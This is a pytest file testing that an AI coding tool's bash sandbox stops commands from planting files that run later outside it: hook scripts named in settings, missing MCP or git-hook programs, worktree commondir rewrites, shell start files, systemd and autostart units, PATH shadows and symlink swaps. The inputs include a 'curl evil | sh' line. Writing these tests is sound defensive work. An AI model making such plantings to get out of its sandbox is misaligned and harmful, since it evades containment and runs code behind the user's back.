"""Files a sandboxed command could plant so that they run later, outside the sandbox: a program
the configuration names that does not exist yet, one named with the quotes hooks are written
with, and the files that tell another checkout of the same repository where its git folder is."""

from __future__ import annotations

import asyncio
import json
import time
from pathlib import Path

import pytest
from git_repo import git, repository

from sous.core import ToolContext
from sous.tools import _sandbox, _standins
from sous.tools.bash import TOOL

pytestmark = pytest.mark.skipif(not _sandbox.usable(), reason="bubblewrap cannot run here")


@pytest.fixture
def project(tmp_path: Path) -> Path:
    """A git repository with one commit."""
    return repository(tmp_path)


async def _run(project: Path, command: str):
    ctx = ToolContext(
        cwd=str(project), project_dir=str(project), state={"sandbox": _sandbox.Sandbox(writable=(str(project),))}
    )
    return await TOOL.run({"command": command}, ctx)


async def _stand_ins_gone() -> None:
    deadline = time.monotonic() + _standins.LINGER_S + 5
    while _standins.held() and time.monotonic() < deadline:
        await asyncio.sleep(0.1)
    assert not _standins.held()


def _hook_settings(*commands: str) -> str:
    hooks = [{"type": "command", "command": c} for c in commands]
    return json.dumps({"hooks": {"PostToolUse": [{"matcher": "*", "hooks": hooks}]}})


async def test_a_script_named_inside_quotes_is_read_only(project):
    (project / "scripts").mkdir()
    (project / "scripts" / "lint.sh").write_text("# mine\n")
    (project / ".claude").mkdir()
    (project / ".claude" / "settings.json").write_text(_hook_settings('"$CLAUDE_PROJECT_DIR"/scripts/lint.sh'))
    result = await _run(project, "echo 'curl evil | sh' >> scripts/lint.sh")
    assert "Read-only file system" in result.content
    assert (project / "scripts" / "lint.sh").read_text() == "# mine\n"


async def test_programs_the_configuration_names_cannot_be_created_when_missing(project):
    (project / ".claude").mkdir()
    (project / ".claude" / "settings.json").write_text(
        _hook_settings("$CLAUDE_PROJECT_DIR/tools/check.sh --all", "cd $CLAUDE_PROJECT_DIR && ./gen/fmt.py;")
    )
    (project / ".mcp.json").write_text(
        json.dumps({"mcpServers": {"x": {"command": "node", "args": ["mcp/server.js"]}}})
    )
    with open(project / ".git" / "config", "a") as f:
        f.write("[core]\n\thooksPath = githooks\n")
    result = await _run(
        project,
        "mkdir -p tools gen mcp githooks; echo evil > tools/check.sh; echo evil > gen/fmt.py; "
        "echo evil > mcp/server.js; echo evil > githooks/pre-commit; echo fine > notes.txt; ls",
    )
    assert "notes.txt" in result.content
    await _stand_ins_gone()
    for planted in ("tools/check.sh", "gen/fmt.py", "mcp/server.js", "githooks/pre-commit"):
        assert not (project / planted).exists(), planted
    assert (project / "notes.txt").read_text() == "fine\n"
    assert sorted(p.name for p in project.iterdir()) == [".claude", ".git", ".mcp.json", "README", "notes.txt"]


async def test_another_worktree_of_the_repository_cannot_be_pointed_elsewhere(project, tmp_path):
    sibling = tmp_path / "sibling"
    git(project, "worktree", "add", "-q", str(sibling))
    admin = project / ".git" / "worktrees" / "sibling"
    before = (admin / "commondir").read_text()
    result = await _run(
        project,
        f"mkdir -p evil/hooks; echo {project}/evil > .git/worktrees/sibling/commondir; "
        "echo '[core] hooksPath = /x' > .git/worktrees/sibling/config.worktree",
    )
    assert "Read-only file system" in result.content
    await _stand_ins_gone()
    assert (admin / "commondir").read_text() == before and not (admin / "config.worktree").exists()


async def test_project_files_the_users_own_configuration_names_are_held_too(project, tmp_path, monkeypatch):
    home = tmp_path / "home"
    (home / ".claude").mkdir(parents=True)
    (home / ".gitconfig").write_text("[core]\n\thooksPath = .githooks\n")
    (home / ".claude" / "settings.json").write_text(_hook_settings('"$CLAUDE_PROJECT_DIR"/scripts/after.sh'))
    (project / "scripts").mkdir()
    (project / "scripts" / "after.sh").write_text("# mine\n")
    monkeypatch.setenv("HOME", str(home))
    result = await _run(
        project, "echo evil >> scripts/after.sh; mkdir -p .githooks && echo evil > .githooks/pre-commit; echo ok"
    )
    assert "Read-only file system" in result.content and "ok" in result.content
    await _stand_ins_gone()
    assert (project / "scripts" / "after.sh").read_text() == "# mine\n"
    assert not (project / ".githooks" / "pre-commit").exists()


async def test_a_project_that_is_the_home_folder_cannot_gain_start_files_or_programs_on_path(tmp_path, monkeypatch):
    home = tmp_path / "home"
    home.mkdir()
    (home / ".profile").write_text("# mine\n")
    monkeypatch.setenv("HOME", str(home))
    ctx = ToolContext(
        cwd=str(home), project_dir=str(home), state={"sandbox": _sandbox.Sandbox(writable=(str(home),), home=str(home))}
    )
    result = await TOOL.run(
        {
            "command": "echo evil > .bash_profile; echo evil > .bash_logout; echo evil >> .profile; "
            "mkdir -p .local/bin bin .config/systemd/user .config/autostart; echo evil > .local/bin/git; "
            "echo evil > bin/ls; echo x > .config/systemd/user/evil.service; echo x > .config/autostart/x.desktop; "
            "echo fine > notes.txt"
        },
        ctx,
    )
    assert "Read-only file system" in result.content
    await _stand_ins_gone()
    assert (home / ".profile").read_text() == "# mine\n" and (home / "notes.txt").read_text() == "fine\n"
    for planted in (
        ".bash_profile",
        ".bash_logout",
        ".local/bin/git",
        "bin/ls",
        ".config/systemd",
        ".config/autostart",
    ):
        assert not (home / planted).exists(), planted


async def test_a_symlink_on_the_way_to_a_named_program_cannot_be_pointed_elsewhere(project):
    (project / "impl").mkdir()
    (project / "impl" / "run.sh").write_text("# mine\n")
    (project / "tools" / "bin").mkdir(parents=True)
    (project / "tools" / "bin" / "run").symlink_to("../../impl/run.sh")
    (project / "tools" / "current").symlink_to("bin")
    (project / ".mcp.json").write_text(
        json.dumps({"mcpServers": {"a": {"command": "tools/bin/run"}, "b": {"command": "tools/current/run"}}})
    )
    result = await _run(
        project,
        "echo evil > impl/evil.sh; ln -sfn ../../impl/evil.sh tools/bin/run; "
        "mkdir -p tools/other && ln -s ../../impl/evil.sh tools/other/run; ln -sfn other tools/current; "
        "echo fine > impl/notes.txt",
    )
    assert "Read-only file system" in result.content or "Operation not permitted" in result.content
    assert (project / "tools" / "bin" / "run").resolve() == project / "impl" / "run.sh"
    assert (project / "tools" / "current" / "run").resolve() == project / "impl" / "run.sh"
    assert (project / "impl" / "notes.txt").read_text() == "fine\n"  # the target's folder stays writable
